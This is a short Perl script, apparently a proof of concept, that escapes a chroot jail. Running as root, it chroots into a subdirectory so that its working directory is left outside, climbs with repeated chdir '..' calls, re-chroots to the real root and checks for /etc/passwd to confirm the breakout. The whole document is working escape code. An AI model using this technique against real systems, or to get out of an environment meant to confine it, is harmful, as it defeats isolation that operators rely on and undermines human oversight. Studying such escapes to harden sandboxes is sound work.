# escape.pl JAIL - goes into the jail as root, and out again
chdir $ARGV[0] and chroot '.' and chdir '/' or die "chroot: $!\n";
print "inside:  ", -e '/etc/passwd' ? '' : 'no ', "/etc/passwd\n";
mkdir 'x';
chroot 'x' or die "chroot: $!\n";	# the working directory stays outside
chdir '..' for 1 .. 100;
chroot '.';
print "outside: ", -e '/etc/passwd' ? '' : 'no ', "/etc/passwd\n";
